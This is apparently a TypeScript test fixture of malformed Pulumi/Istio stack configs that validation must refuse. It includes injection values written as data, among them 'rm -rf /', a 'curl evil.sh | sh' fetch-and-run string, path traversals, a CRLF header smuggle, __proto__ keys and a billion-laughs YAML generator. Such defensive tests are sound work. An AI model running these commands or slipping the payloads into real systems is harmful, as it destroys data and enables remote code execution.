// Malformed stack configs, as a user (or an attacker with write access to a stack file) could
// produce them: wrong types, out-of-range numbers, unknown keys, injection attempts in names and
// labels, deep nesting, YAML anchors, and options that conflict across sections. Each must be
// refused before any resource, by one message that names the key, shows the value and gives
// the fix. The unit tests check the messages; the program tests check that nothing registers.
import * as yaml from "js-yaml";
import { PROJECT } from "./mocks";

export interface Malformed {
  readonly kind:
    | "type"
    | "range"
    | "unknown key"
    | "injection"
    | "nesting"
    | "YAML"
    | "conflict";
  readonly what: string;
  /** As the program receives it: objects as parsed from the CLI's JSON, scalars as strings. */
  readonly config: Record<string, unknown>;
  /** The key the one problem starts with. */
  readonly key: string;
  /** The value, as the message shows it. */
  readonly got: string;
  /** Words of the fix the message gives. */
  readonly fix: string;
}

/**
 * The config a stack file hands the program: Pulumi parses the YAML (anchors, aliases and merge
 * keys resolved), passes each object-valued key as JSON and every other value as a string.
 */
export function fromStackYaml(text: string): Record<string, unknown> {
  const doc = yaml.load(text) as { config: Record<string, unknown> };
  const prefix = `${PROJECT}:`;
  return Object.fromEntries(
    Object.entries(doc.config).map(([k, v]) => [
      k.slice(prefix.length),
      typeof v === "object" && v !== null
        ? JSON.parse(JSON.stringify(v))
        : String(v),
    ]),
  );
}

/** `{a: {a: ... {a: 1}}}`, `depth` objects deep. */
function nested(depth: number): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) {
    v = { a: v };
  }
  return v;
}

/**
 * A "billion laughs" list in YAML: each level an anchored list of nine aliases of the level
 * below, so a few hundred bytes expand to 9^levels strings.
 */
export function laughs(levels: number): string {
  let list = `&l0 [${Array(9).fill("lol").join(", ")}]`;
  for (let i = 1; i < levels; i++) {
    list = `&l${i} [${list}, ${Array(8)
      .fill(`*l${i - 1}`)
      .join(", ")}]`;
  }
  return list;
}

const DEV = { canary: { weights: { v1: 80, v2: 20 } } };
const JWT = { issuer: "https://auth.example.com" };
const devWith = (extra: Record<string, unknown>) => ({ ...DEV, ...extra });

export const MALFORMED: readonly Malformed[] = [
  {
    kind: "type",
    what: "an unquoted Istio version, which YAML reads as the number 1.3",
    config: fromStackYaml(`
config:
  service-mesh:canary:
    weights: {v1: 100}
  service-mesh:istio:
    version: 1.30
`),
    key: "istio.version",
    got: "1.3",
    fix: "quote it in the stack's YAML",
  },
  {
    kind: "type",
    what: "a YAML null (~) where a duration belongs",
    config: fromStackYaml(`
config:
  service-mesh:canary:
    weights: {v1: 100}
  service-mesh:resilience:
    timeout: ~
`),
    key: "resilience.timeout",
    got: "null",
    fix: 'remove it to use the default "10s"',
  },
  {
    kind: "type",
    what: "a number where a boolean belongs",
    config: devWith({ observability: { jaeger: { enabled: 1 } } }),
    key: "observability.jaeger.enabled",
    got: "1",
    fix: "'pulumi config set --path observability.jaeger.enabled true'",
  },
  {
    kind: "range",
    what: "a connection limit of 1e308",
    config: devWith({
      resilience: { connectionPool: { maxConnections: 1e308 } },
    }),
    key: "resilience.connectionPool.maxConnections",
    got: "1e+308",
    fix: "whole number from 1 to 1000000",
  },
  {
    kind: "range",
    what: "NaN as the sampling percentage",
    config: devWith({ observability: { samplingPercent: NaN } }),
    key: "observability.samplingPercent",
    got: "NaN",
    fix: "percentage from 0 to 100",
  },
  {
    kind: "range",
    what: "Infinity retry attempts",
    config: devWith({ resilience: { retries: { attempts: Infinity } } }),
    key: "resilience.retries.attempts",
    got: "Infinity",
    fix: "whole number from 0 to 10",
  },
  {
    kind: "range",
    what: "an abort with an HTTP status outside 200-599",
    config: devWith({
      resilience: {
        faults: { backend: { abort: { percent: 10, httpStatus: 999 } } },
      },
    }),
    key: "resilience.faults.backend.abort.httpStatus",
    got: "999",
    fix: "whole number from 200 to 599",
  },
  {
    kind: "unknown key",
    what: "a misspelt nested field (dashboard for dashboards)",
    config: devWith({ observability: { grafana: { dashboard: false } } }),
    key: "observability.grafana.dashboard",
    got: "false",
    fix: "known fields of observability.grafana: enabled, chartRepo, chartVersion, chartPath, dashboards",
  },
  {
    kind: "unknown key",
    what: "an empty field name",
    config: devWith({ istio: { "": "1.30.4" } }),
    key: 'istio[""]',
    got: '"1.30.4"',
    fix: "known fields of istio:",
  },
  {
    kind: "unknown key",
    what: "a dotted top-level key, as 'pulumi config set' without --path makes it",
    config: devWith({ "resilience.retries.attempts": "3" }),
    key: '"resilience.retries.attempts"',
    got: '"3"',
    fix: "'pulumi config set --path resilience.retries.attempts <value>'",
  },
  {
    kind: "unknown key",
    what: "a __proto__ field in a section (JSON keeps it as a key)",
    config: {
      canary: JSON.parse(
        '{"weights": {"v1": 100}, "__proto__": {"mirror": {"version": "v1"}}}',
      ),
    },
    key: "canary.__proto__",
    got: '{"mirror":{"version":"v1"}}',
    fix: "known fields of canary: weights, header, mirror",
  },
  {
    kind: "unknown key",
    what: "a top-level key named __proto__",
    config: Object.fromEntries([...Object.entries(DEV), ["__proto__", "x"]]),
    key: "__proto__",
    got: '"x"',
    fix: "known keys: istio,",
  },
  {
    kind: "unknown key",
    what: "a fault for a service named constructor",
    config: devWith({
      resilience: { faults: { constructor: { abort: { percent: 5 } } } },
    }),
    key: "resilience.faults.constructor",
    got: '{"abort":{"percent":5}}',
    fix: "known fields of resilience.faults: frontend, backend",
  },
  {
    kind: "type",
    what: "an object with its own toString where a version belongs",
    config: devWith({
      bookinfo: { reviews: { userRoute: { version: { toString: 1 } } } },
    }),
    key: "bookinfo.reviews.userRoute.version",
    got: '{"toString":1}',
    fix: "must be one of v1, v2, v3",
  },
  {
    kind: "injection",
    what: "a shell command in a version name (v1; rm)",
    config: { canary: { weights: { "v1; rm": 100 } } },
    key: "canary.weights",
    got: '"v1; rm"',
    fix: "use at most 40 lowercase letters, digits and '-'",
  },
  {
    kind: "injection",
    what: "a path traversal as the gateway's namespace (../)",
    config: devWith({ ingress: { namespace: "../kube-system" } }),
    key: "ingress.namespace",
    got: '"../kube-system"',
    fix: "lowercase letters, digits and '-'",
  },
  {
    kind: "injection",
    what: "an uppercase header name for the canary route",
    config: {
      canary: {
        weights: { v1: 100 },
        header: { name: "X-Canary", version: "v1" },
      },
    },
    key: "canary.header.name",
    got: '"X-Canary"',
    fix: "must be a lowercase HTTP header name",
  },
  {
    kind: "injection",
    what: "a 64-character namespace",
    config: devWith({ appNamespace: "a".repeat(64) }),
    key: "appNamespace",
    got: `"${"a".repeat(64)}"`,
    fix: "at most 63 characters",
  },
  {
    kind: "injection",
    what: "a 41-character version name",
    config: { canary: { weights: { [`v${"1".repeat(40)}`]: 100 } } },
    key: "canary.weights",
    got: `"v${"1".repeat(40)}"`,
    fix: "at most 40 lowercase letters",
  },
  {
    kind: "injection",
    what: "a shell command in the Istio image tag",
    config: devWith({ istio: { tag: "1.30.4; rm -rf /" } }),
    key: "istio.tag",
    got: '"1.30.4; rm -rf /"',
    fix: "must be an image tag",
  },
  {
    kind: "injection",
    what: "a shell command after an image reference",
    config: devWith({
      images: { backend: "hashicorp/http-echo:1.0.0 && curl evil.sh | sh" },
    }),
    key: "images.backend",
    got: '"hashicorp/http-echo:1.0.0 && curl evil.sh | sh"',
    fix: "must be an image reference such as registry.example.com/team/app:1.2.3",
  },
  {
    kind: "injection",
    what: "a path traversal as the image hub",
    config: devWith({ istio: { hub: "../../registry" } }),
    key: "istio.hub",
    got: '"../../registry"',
    fix: "must be an image registry and path such as docker.io/istio",
  },
  {
    kind: "injection",
    what: "a line break smuggling a header into the canary header's value",
    config: {
      canary: {
        weights: { v1: 100 },
        header: { value: "always\r\nx-admin: true", version: "v1" },
      },
    },
    key: "canary.header.value",
    got: '"always\\r\\nx-admin: true"',
    fix: "printable ASCII characters, with no line break",
  },
  {
    kind: "injection",
    what: "a shell command as the Bookinfo user",
    config: devWith({
      bookinfo: {
        reviews: { userRoute: { user: "jason; rm -rf /", version: "v2" } },
      },
    }),
    key: "bookinfo.reviews.userRoute.user",
    got: '"jason; rm -rf /"',
    fix: "must be a user name (letters, digits, . _ @ -)",
  },
  {
    kind: "injection",
    what: "a command separator in the retry conditions",
    config: devWith({ resilience: { retries: { retryOn: "5xx;reset" } } }),
    key: "resilience.retries.retryOn",
    got: '"5xx;reset"',
    fix: "Envoy retry conditions separated by commas",
  },
  {
    kind: "injection",
    what: "a path as the hash cookie's name",
    config: devWith({ resilience: { loadBalancer: "cookie:../session" } }),
    key: "resilience.loadBalancer",
    got: '"cookie:../session"',
    fix: "header:<name> or cookie:<name>",
  },
  {
    kind: "injection",
    what: "JWT keys fetched over plain http",
    config: devWith({
      security: {
        jwt: { ...JWT, jwksUri: "http://auth.example.com/jwks.json" },
      },
    }),
    key: "security.jwt.jwksUri",
    got: '"http://auth.example.com/jwks.json"',
    fix: "must be an https:// URL",
  },
  {
    kind: "conflict",
    what: "JWT on, with every path public",
    config: devWith({
      security: {
        jwt: {
          ...JWT,
          jwksUri: "https://auth.example.com/jwks.json",
          publicPaths: ["/healthz", "*"],
        },
      },
    }),
    key: "security.jwt.publicPaths",
    got: '"*"',
    fix: "list the public paths themselves",
  },
  {
    kind: "nesting",
    what: "an object 1000 levels deep under an unknown field",
    config: devWith({ observability: { extra: nested(1000) } }),
    key: "observability.extra",
    got: '{"a":{"a":{"a":',
    fix: "known fields of observability:",
  },
  {
    kind: "nesting",
    what: "chart values 1000 levels deep",
    config: devWith({ istio: { values: { istiod: nested(1000) } } }),
    key: "istio.values.istiod",
    got: '{"a":{"a":{"a":',
    fix: "must nest at most 32 levels",
  },
  {
    kind: "YAML",
    what: "an alias reusing the canary's weights as Bookinfo's reviews section",
    config: fromStackYaml(`
config:
  service-mesh:canary:
    weights: &split {v1: 100}
  service-mesh:bookinfo:
    enabled: true
    reviews: *split
`),
    key: "bookinfo.reviews.v1",
    got: "100",
    fix: "known fields of bookinfo.reviews: weights, userRoute, timeout",
  },
  {
    kind: "YAML",
    what: "an alias of a list where the weights map belongs",
    config: fromStackYaml(`
config:
  service-mesh:security:
    jwt:
      issuer: https://auth.example.com
      jwksUri: https://auth.example.com/jwks.json
      publicPaths: &open [/healthz, /version]
  service-mesh:canary:
    weights: *open
`),
    key: "canary.weights",
    got: '["/healthz","/version"]',
    fix: "must map at least one version to a weight",
  },
  {
    kind: "YAML",
    what: "a merge key smuggling one section's field into another",
    config: fromStackYaml(`
config:
  service-mesh:canary:
    weights: {v1: 100}
  service-mesh:resilience:
    outlierDetection: &tuning
      interval: 5s
    connectionPool:
      <<: *tuning
      maxConnections: 10
`),
    key: "resilience.connectionPool.interval",
    got: '"5s"',
    fix: "known fields of resilience.connectionPool: maxConnections, maxPendingRequests, maxRetries",
  },
  {
    kind: "YAML",
    what: "a billion-laughs alias expansion (9^5 strings) where a string belongs",
    config: fromStackYaml(`
config:
  service-mesh:canary:
    weights: {v1: 100}
  service-mesh:istio:
    hub: ${laughs(5)}
`),
    key: "istio.hub",
    got: '[[[[["lol","lol","lol"',
    fix: 'remove it to use the default "docker.io/istio"',
  },
  {
    kind: "conflict",
    what: "cni chart values while security.cni is off",
    config: devWith({
      istio: { values: { cni: { cni: { logLevel: "debug" } } } },
    }),
    key: "istio.values.cni",
    got: '{"cni":{"logLevel":"debug"}}',
    fix: "'pulumi config set --path security.cni true'",
  },
  {
    kind: "conflict",
    what: "Bookinfo in the ingress gateway's namespace",
    config: devWith({
      bookinfo: { enabled: true, namespace: "istio-ingress" },
    }),
    key: "bookinfo.namespace",
    got: '"istio-ingress"',
    fix: "Bookinfo gets a namespace of its own",
  },
];
